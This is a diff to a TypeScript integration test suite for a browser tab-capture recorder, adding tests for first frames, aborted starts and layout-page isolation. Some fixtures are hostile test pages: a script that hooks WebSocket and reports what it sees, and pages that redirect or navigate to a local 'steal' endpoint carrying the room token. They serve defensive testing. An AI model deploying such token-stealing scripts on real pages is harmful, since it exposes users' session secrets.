@@ -12,6 +12,7 @@ import { probe } from '../../src/recorder/probe';
 import { Recorder } from '../../src/recorder/recorder';
 import type { OutputFormat, RecordingResult } from '../../src/recorder/types';
 import { processTree } from '../../src/observability/process-tree';
+import { firstFrames } from '../helpers/first-frame';
 import { audioSamples, colourRegion, frameAt, processAlive, tonePower } from '../helpers/media';
 
 /**
@@ -93,9 +94,12 @@ describe('recording a room with three publishers', () => {
     expect(result.size).toBeGreaterThan(10000);
   });
 
-  it('shows every publisher in a tile of its own throughout', async () => {
-    // from 5 s on: joining the room and the first keyframes take a moment on a loaded machine
-    for (const t of [5, 7, 9.5]) {
+  it('shows every publisher from the first frame, each in a tile of its own throughout', async () => {
+    // the encoder starts once everyone present is on the canvas: the file opens with them
+    const opening = await firstFrames(result.path, people.map((p) => p.colour), { seconds: 2 });
+    // the first frame (pts rounding aside: less than one frame period)
+    expect({ firstFrameShowsAll: opening.allVisibleAfter !== null && opening.allVisibleAfter < 0.02, frames: opening.frames > 30 }).toEqual({ firstFrameShowsAll: true, frames: true });
+    for (const t of [0.5, 5, 9.5]) {
       const frame = await frameAt(result.path, t);
       const regions = people.map((p) => colourRegion(frame, p.colour));
       const missing = people.filter((_, i) => regions[i].share <= 0.08).map((p) => p.identity);
@@ -107,7 +111,7 @@ describe('recording a room with three publishers', () => {
   });
 
   it('carries every publisher tone in the mixed audio', async () => {
-    const samples = await audioSamples(result.path, 2, 6);
+    const samples = await audioSamples(result.path, 0.1, 6);
     const floor = Math.max(...[650, 1000, 1700].map((hz) => tonePower(samples, hz)));
     for (const p of people) expect(tonePower(samples, p.tone)).toBeGreaterThan(floor * 100);
   });
@@ -276,10 +280,39 @@ describe('custom layout pages (tab capture)', () => {
   // layout page and one that never says START_RECORDING.
   let layouts: http.Server;
   let origin: string;
+  // another origin, where a page must never take the recorder (its URL carries the room token)
+  let elsewhere: http.Server;
+  let elsewhereOrigin: string;
+  const elsewhereHits: string[] = [];
+  const spyReports: string[] = [];
+  const page = (body: string) => `<!doctype html><title>test layout</title><body></body><script src="/${body}"></script>`;
+  const scripts: Record<string, string> = {
+    // watches for anything of the recorder in its own world: globals, sockets, the DOM
+    'spy.js': `const seen = []; const Real = window.WebSocket;
+      window.WebSocket = function (url, p) { seen.push(String(url)); return new Real(url, p); };
+      console.log('START_RECORDING');
+      setTimeout(() => fetch('/report', { method: 'POST', body: JSON.stringify({ seen, recorder: typeof window.recorder, state: typeof window.recorderState, dom: document.documentElement.outerHTML.includes('secret') }) }), 3000);`,
+    'leave.js': `console.log('START_RECORDING'); setTimeout(() => { location.href = ELSEWHERE + '/steal' + location.search; }, 2000);`,
+  };
   beforeAll(async () => {
+    elsewhere = http.createServer((req, res) => {
+      elsewhereHits.push(req.url ?? '');
+      res.writeHead(200).end('stolen');
+    });
+    await new Promise<void>((r) => elsewhere.listen(0, '127.0.0.1', r));
+    elsewhereOrigin = `http://127.0.0.1:${(elsewhere.address() as { port: number }).port}`;
     const pages = path.join(bundledPageDir(), 'examples');
     layouts = http.createServer((req, res) => {
       const name = new URL(req.url ?? '/', 'http://x').pathname.slice(1);
+      if (name === 'report') {
+        let body = '';
+        req.on('data', (d: Buffer) => (body += d.toString()));
+        req.on('end', () => (spyReports.push(body), res.writeHead(204).end()));
+        return;
+      }
+      if (name === 'bounce.html') return void res.writeHead(302, { location: `${elsewhereOrigin}/steal${new URL(req.url ?? '/', 'http://x').search}` }).end();
+      if (name === 'spy.html' || name === 'leave.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end(page(name.replace('.html', '.js')));
+      if (scripts[name]) return void res.writeHead(200, { 'content-type': 'text/javascript' }).end(scripts[name].replace('ELSEWHERE', JSON.stringify(elsewhereOrigin)));
       if (name === 'silent.html') return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>silent</title><p>never ready</p>');
       if (!['custom-layout.html', 'custom-layout.js'].includes(name)) return void res.writeHead(404).end();
       res.writeHead(200, { 'content-type': name.endsWith('.js') ? 'text/javascript' : 'text/html', 'content-security-policy': "script-src 'self'" });
@@ -288,7 +321,7 @@ describe('custom layout pages (tab capture)', () => {
     await new Promise<void>((r) => layouts.listen(0, '127.0.0.1', r));
     origin = `http://127.0.0.1:${(layouts.address() as { port: number }).port}`;
   });
-  afterAll(() => new Promise<void>((r) => layouts.close(() => r())));
+  afterAll(() => Promise.all([layouts, elsewhere].map((srv) => new Promise<void>((r) => srv.close(() => r())))));
 
   const customOptions = (page: string, format: OutputFormat = 'mp4') => ({ width: 1280, height: 720, fps: 30, format, layout: 'grid' as const, customLayoutUrl: `${origin}/${page}` });
 
@@ -346,6 +379,49 @@ describe('custom layout pages (tab capture)', () => {
     expect(recorder.ingest.openSockets).toBe(0);
     expect(recorder.activeCount).toBe(0);
   }, 60000);
+
+  it("the page's own scripts never see the ingest URL or its secret: the capture runs in a world of its own", async () => {
+    const live = await recorder.start({ id: `custom-spy-${Date.now()}`, roomName: 'custom-spy', outputPath: path.join(dir, 'custom-spy.mkv'), options: customOptions('spy.html', 'mkv') });
+    await sleep(4000);
+    const result = await live.stop();
+    expect(result.endReason).toBe('stopped');
+    expect(spyReports).toHaveLength(1);
+    expect(JSON.parse(spyReports[0]!)).toEqual({ seen: [], recorder: 'undefined', state: 'undefined', dom: false });
+  }, 60000);
+
+  it('a layout page never takes the room token to another origin: a redirect fails the start, a later navigation ends the recording', async () => {
+    await expect(
+      recorder.start({ id: `custom-bounce-${Date.now()}`, roomName: 'custom-bounce', outputPath: path.join(dir, 'bounce.mp4'), options: customOptions('bounce.html') }),
+    ).rejects.toMatchObject({ code: 'LAYOUT_PAGE_FAILED' });
+    const live = await recorder.start({ id: `custom-leave-${Date.now()}`, roomName: 'custom-leave', outputPath: path.join(dir, 'leave.mkv'), options: customOptions('leave.html', 'mkv') });
+    const result = await Promise.race([live.done, sleep(15000).then(() => null)]);
+    expect(result).toMatchObject({ endReason: 'failed', error: { code: 'LAYOUT_PAGE_FAILED' } });
+    expect((await probe('ffprobe', result!.path)).durationMs).toBeGreaterThan(1000);
+    expect(elsewhereHits).toEqual([]);
+    expect(await recorder.pool.openPages()).toBe(0);
+  }, 60000);
+});
+
+describe('starting and stopping', () => {
+  it('a stop before the participants are on the canvas gives the start up: RECORDING_ABORTED, nothing recorded, nothing left open', async () => {
+    const pub = await publishers.add({ room: 'abort', identity: 'olive', colour: '#808000', tone: 700 });
+    try {
+      const id = `abort-${Date.now()}`;
+      const live = await recorder.open({ id, roomName: 'abort', outputPath: path.join(dir, 'abort.mp4'), options: { width: 1280, height: 720, fps: 30, format: 'mp4', layout: 'grid' } });
+      await expect(live.stop()).rejects.toMatchObject({ code: 'RECORDING_ABORTED' });
+      await expect(live.done).rejects.toMatchObject({ code: 'RECORDING_ABORTED' });
+      expect(fsSync.existsSync(path.join(dir, 'abort.mp4'))).toBe(false);
+      expect(fsSync.existsSync(path.join(dir, 'spool', `${id}.webm`))).toBe(false);
+      expect({ pages: await recorder.pool.openPages(), sockets: recorder.ingest.openSockets, active: recorder.activeCount }).toEqual({ pages: 0, sockets: 0, active: 0 });
+    } finally {
+      await pub.leave();
+    }
+  }, 60000);
+
+  it('a recording that ended lets go of the browser (no listener of it stays on the browser)', () => {
+    // every recording of this file has ended by now, failed starts included
+    expect(recorder.pool.recordingListeners()).toBe(0);
+  });
 });
 
 describe('faults', () => {
@@ -382,7 +458,8 @@ describe('faults', () => {
     expect(result.error?.code).toBe('BROWSER_CRASHED');
     const info = await probe('ffprobe', result.path);
     expect(info.durationMs).toBeGreaterThan(4000);
-    expect(colourRegion(await frameAt(result.path, 4), '#80ff00').share).toBeGreaterThan(0.2);
+    // the file runs to the last chunk that reached the spool: the timeslice in flight at the kill is lost
+    expect(colourRegion(await frameAt(result.path, 3.5), '#80ff00').share).toBeGreaterThan(0.2);
     expect(recorder.ingest.openSockets).toBe(0);
 
     const next = await record('crash', 'mp4', 4);
@@ -425,7 +502,7 @@ describe('faults', () => {
       expect(result.error?.code).toBe('INGEST_STALLED');
       const info = await probe('ffprobe', result.path);
       expect(info.durationMs).toBeGreaterThan(4000);
-      expect(colourRegion(await frameAt(result.path, 4), '#ff7f50').share).toBeGreaterThan(0.2);
+      expect(colourRegion(await frameAt(result.path, 3.5), '#ff7f50').share).toBeGreaterThan(0.2);
     } finally {
       // the recorder may have killed the frozen browser by now
       for (const pid of frozen) signalIfAlive(pid, 'SIGCONT');
